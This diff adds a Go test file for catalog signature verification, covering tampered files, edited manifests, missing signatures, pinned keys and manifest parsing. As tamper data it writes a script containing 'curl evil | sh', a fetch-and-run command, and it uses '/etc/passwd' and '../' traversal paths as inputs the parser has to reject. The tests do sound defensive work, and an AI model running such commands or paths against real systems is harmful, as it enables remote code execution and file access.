@@ -0,0 +1,272 @@
+package internal
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+)
+
+// writeSignedCatalog writes files into dir with a SHA256SUMS manifest signed by key
+func writeSignedCatalog(t *testing.T, dir string, files map[string]string, key ed25519.PrivateKey) {
+	t.Helper()
+
+	var names []string
+	for name, content := range files {
+		writeFile(t, filepath.Join(dir, filepath.FromSlash(name)), content)
+		names = append(names, name)
+	}
+	sort.Strings(names)
+
+	var manifest strings.Builder
+	for _, name := range names {
+		sum := sha256.Sum256([]byte(files[name]))
+		manifest.WriteString(fmt.Sprintf("%s  ./%s\n", hex.EncodeToString(sum[:]), name))
+	}
+	writeFile(t, filepath.Join(dir, catalogManifestFile), manifest.String())
+
+	sig := base64.StdEncoding.EncodeToString(ed25519.Sign(key, []byte(manifest.String())))
+	writeFile(t, filepath.Join(dir, catalogSignatureFile), sig+"\n")
+}
+
+func TestVerifyCatalog(t *testing.T) {
+	public, private, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	otherPublic, _, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	files := map[string]string{
+		"gitea/app.json":            `{"name":"Gitea"}`,
+		"gitea/docker-compose.yaml": "services: {}\n",
+	}
+
+	tests := []struct {
+		name    string
+		key     ed25519.PublicKey
+		tamper  func(t *testing.T, dir string)
+		wantErr string
+	}{
+		{
+			name: "valid catalog",
+			key:  public,
+		},
+		{
+			name: "git metadata is ignored",
+			key:  public,
+			tamper: func(t *testing.T, dir string) {
+				writeFile(t, filepath.Join(dir, ".git", "HEAD"), "ref: refs/heads/main\n")
+			},
+		},
+		{
+			name:    "wrong key",
+			key:     otherPublic,
+			wantErr: "signature does not match",
+		},
+		{
+			name: "changed file",
+			key:  public,
+			tamper: func(t *testing.T, dir string) {
+				writeFile(t, filepath.Join(dir, "gitea", "app.json"), `{"name":"Evil"}`)
+			},
+			wantErr: "gitea/app.json does not match",
+		},
+		{
+			name: "added file",
+			key:  public,
+			tamper: func(t *testing.T, dir string) {
+				writeFile(t, filepath.Join(dir, "gitea", "hooks.sh"), "curl evil | sh\n")
+			},
+			wantErr: "gitea/hooks.sh is not in the signed manifest",
+		},
+		{
+			name: "missing file",
+			key:  public,
+			tamper: func(t *testing.T, dir string) {
+				if err := os.Remove(filepath.Join(dir, "gitea", "docker-compose.yaml")); err != nil {
+					t.Fatal(err)
+				}
+			},
+			wantErr: "gitea/docker-compose.yaml is listed in the signed manifest but missing",
+		},
+		{
+			name: "edited manifest",
+			key:  public,
+			tamper: func(t *testing.T, dir string) {
+				p := filepath.Join(dir, catalogManifestFile)
+				data, err := os.ReadFile(p)
+				if err != nil {
+					t.Fatal(err)
+				}
+				writeFile(t, p, string(data)+strings.Repeat("0", 64)+"  ./extra\n")
+			},
+			wantErr: "signature does not match",
+		},
+		{
+			name: "missing signature",
+			key:  public,
+			tamper: func(t *testing.T, dir string) {
+				if err := os.Remove(filepath.Join(dir, catalogSignatureFile)); err != nil {
+					t.Fatal(err)
+				}
+			},
+			wantErr: "catalog is not signed",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			writeSignedCatalog(t, dir, files, private)
+			if tt.tamper != nil {
+				tt.tamper(t, dir)
+			}
+
+			err := verifyCatalog(dir, tt.key)
+			if tt.wantErr == "" {
+				if err != nil {
+					t.Fatalf("verifyCatalog: %v", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Fatalf("error = %v, want it to contain %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestParseManifest(t *testing.T) {
+	hash := strings.Repeat("ab", sha256.Size)
+
+	tests := []struct {
+		name     string
+		manifest string
+		want     map[string]string
+		wantErr  bool
+	}{
+		{
+			name:     "text and binary mode lines",
+			manifest: hash + "  ./gitea/app.json\n" + strings.ToUpper(hash) + " *ghost/app.json\n\n",
+			want:     map[string]string{"gitea/app.json": hash, "ghost/app.json": hash},
+		},
+		{
+			name:     "short hash",
+			manifest: "abcd  gitea/app.json\n",
+			wantErr:  true,
+		},
+		{
+			name:     "missing name",
+			manifest: hash + "\n",
+			wantErr:  true,
+		},
+		{
+			name:     "absolute path",
+			manifest: hash + "  /etc/passwd\n",
+			wantErr:  true,
+		},
+		{
+			name:     "path outside the catalog",
+			manifest: hash + "  gitea/../../outside\n",
+			wantErr:  true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := parseManifest([]byte(tt.manifest))
+			if tt.wantErr {
+				if err == nil {
+					t.Fatalf("expected an error, got %v", got)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("parseManifest: %v", err)
+			}
+			if len(got) != len(tt.want) {
+				t.Fatalf("got %v, want %v", got, tt.want)
+			}
+			for name, hash := range tt.want {
+				if got[name] != hash {
+					t.Errorf("%s = %q, want %q", name, got[name], hash)
+				}
+			}
+		})
+	}
+}
+
+func TestCatalogVerifyKey(t *testing.T) {
+	pinned, _, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	other, _, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	pinnedKey := base64.StdEncoding.EncodeToString(pinned)
+	otherKey := base64.StdEncoding.EncodeToString(other)
+
+	tests := []struct {
+		name    string
+		pinned  string
+		file    string
+		want    ed25519.PublicKey
+		wantErr string
+	}{
+		{name: "no key anywhere", wantErr: "no catalog signing key"},
+		{name: "pinned key", pinned: pinnedKey, want: pinned},
+		{name: "key file without a pinned key", file: otherKey + "\n", want: other},
+		{name: "key file matching the pinned key", pinned: pinnedKey, file: pinnedKey + "\n", want: pinned},
+		{name: "key file can't replace the pinned key", pinned: pinnedKey, file: otherKey, wantErr: "does not match the catalog signing key pinned"},
+		{name: "invalid key file", file: "not-a-key", wantErr: "invalid catalog signing key"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			previous := catalogPublicKey
+			catalogPublicKey = tt.pinned
+			defer func() { catalogPublicKey = previous }()
+
+			s := newTestService(t)
+			if tt.file != "" {
+				writeFile(t, filepath.Join(s.configPath, catalogKeyFileName), tt.file)
+			}
+
+			key, err := s.catalogVerifyKey()
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("error = %v, want it to contain %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("catalogVerifyKey: %v", err)
+			}
+			if !key.Equal(tt.want) {
+				t.Errorf("key = %x, want %x", key, tt.want)
+			}
+		})
+	}
+}
+
+func writeFile(t *testing.T, p, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(p), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(p, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+}